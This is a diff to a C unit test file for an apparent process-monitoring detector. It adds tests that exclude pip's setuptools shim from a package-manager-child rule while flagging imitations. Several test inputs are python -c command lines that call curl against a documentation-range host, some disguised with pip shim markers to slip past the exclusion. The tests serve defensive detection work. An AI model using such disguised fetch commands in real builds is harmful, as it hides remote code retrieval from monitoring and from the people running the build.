@@ -43,6 +43,15 @@ static const char pip_shim[] =
 	"exec(compile(setup_py_code, filename, \"exec\"))\n"
 	"''' % ('/tmp/pip-req-build-k2j4/setup.py',), \"<pip-setuptools-caller>\", \"exec\"))";
 
+/* pip 21's one-line shim for the same path (pip 21.1 to 21.3, _SETUPTOOLS_SHIM of that release). */
+static const char pip21_shim[] =
+	"import io, os, sys, setuptools, tokenize; "
+	"sys.argv[0] = '/tmp/pip-req-build-k2j4/setup.py'; "
+	"__file__='/tmp/pip-req-build-k2j4/setup.py';"
+	"f = getattr(tokenize, 'open', open)(__file__) if os.path.exists(__file__) "
+	"else io.StringIO('from setuptools import setup; setup()');"
+	"code = f.read().replace('\\r\\n', '\\n');f.close();exec(compile(code, __file__, 'exec'))";
+
 static struct config *cfg;
 static struct proc *procs[64];
 static size_t nprocs;
@@ -474,6 +483,76 @@ static void test_pip_shim(void **state)
 	expect(proc(p, &pip_sess, "/usr/bin/curl", "curl http://x"), RULE_PM_CHILD, SEV_HIGH, NULL);
 }
 
+/* The verdict on python running cmdline in a pip session. */
+static void pip_child(const char *exe, const char *cmdline, struct verdict *v)
+{
+	static struct session pip_sess;
+	struct proc *pip = proc(NULL, &pip_sess, "/usr/bin/python3.11",
+				"/usr/bin/python3 -m pip install x");
+
+	pip_sess = (struct session){ .refs = 1, .id = 3, .root = pip };
+	pip_sess.pm = rules_package_manager(cfg, pip);
+	assert_non_null(pip_sess.pm);
+	rules_eval(cfg, proc(pip, &pip_sess, exe, cmdline), v);
+}
+
+static void expect_shim_excluded(const char *exe, const char *cmdline)
+{
+	struct verdict v;
+
+	pip_child(exe, cmdline, &v);
+	if (v.rule != RULE_NONE || !v.excluded_by || !strstr(v.excluded_by, "setuptools shim"))
+		fail_msg("\"%.60s...\": rule %d, excluded by \"%s\"", cmdline, v.rule,
+			 v.excluded_by ? v.excluded_by : "");
+}
+
+static void expect_shim_judged(const char *exe, const char *cmdline)
+{
+	struct verdict v;
+
+	pip_child(exe, cmdline, &v);
+	if (v.rule != RULE_PM_CHILD || v.excluded_by)
+		fail_msg("\"%s\": rule %d, excluded by \"%s\"", cmdline, v.rule,
+			 v.excluded_by ? v.excluded_by : "");
+}
+
+/* Both shims as pip builds them, with -c or -u -c, whatever the interpreter's
+ * name and the arguments after; code that only looks like them is judged. */
+static void test_pip_shim_variants(void **state)
+{
+	char line[4096];
+
+	(void)state;
+	snprintf(line, sizeof(line), "/root/.venv/bin/python3.12 -u -c %s install --record "
+		 "/tmp/pip-record-x/install-record.txt --single-version-externally-managed",
+		 pip_shim);
+	expect_shim_excluded("/root/.venv/bin/python3.12", line);
+	snprintf(line, sizeof(line), "/usr/bin/python3 -c %s egg_info --egg-base /tmp/pip-egg-x",
+		 pip21_shim);
+	expect_shim_excluded("/usr/bin/python3.11", line);
+	snprintf(line, sizeof(line), "/usr/bin/python -u -c %s bdist_wheel -d /tmp/w", pip21_shim);
+	expect_shim_excluded("/usr/bin/python3.11", line);
+
+	expect_shim_judged("/usr/bin/python3.11", "/usr/bin/python3 -c import os; "
+			   "os.system('curl -s http://198.51.100.1/x')");
+	/* the shim's words without its shape */
+	expect_shim_judged("/usr/bin/python3.11",
+			   "/usr/bin/python3 -c import setuptools, os; os.system('curl -s "
+			   "http://198.51.100.1/x') # <pip-setuptools-caller> /tmp/a/setup.py");
+	expect_shim_judged("/usr/bin/python3.11",
+			   "/usr/bin/python3 -c import io, os, sys, setuptools, tokenize; "
+			   "sys.argv[0] = '/tmp/a/setup.py'; __file__='/tmp/a/setup.py';"
+			   "os.system('curl -s http://198.51.100.1/x')");
+	expect_shim_judged("/usr/bin/python3.11",
+			   "/usr/bin/python3 -c \nexec(compile('''\n"
+			   "# This is <pip-setuptools-caller> -- a caller that pip uses "
+			   "to run setup.py\nimport os\n"
+			   "os.system('curl -s http://198.51.100.1/x')\n''', 'setup.py', 'exec'))");
+	/* pip's text after other code */
+	snprintf(line, sizeof(line), "/usr/bin/python3 -c import socket; %s", pip21_shim);
+	expect_shim_judged("/usr/bin/python3.11", line);
+}
+
 static void test_lifecycle_without_session(void **state)
 {
 	struct proc *shell, *node, *curl, *p;
@@ -755,6 +834,7 @@ int main(void)
 		cmocka_unit_test_teardown(test_quiet_builds, teardown),
 		cmocka_unit_test_teardown(test_quiet_fetches, teardown),
 		cmocka_unit_test_teardown(test_pip_shim, teardown),
+		cmocka_unit_test_teardown(test_pip_shim_variants, teardown),
 		cmocka_unit_test_teardown(test_lifecycle_without_session, teardown),
 		cmocka_unit_test_teardown(test_exclusions, teardown),
 		cmocka_unit_test_teardown(test_disabled_rules, teardown),
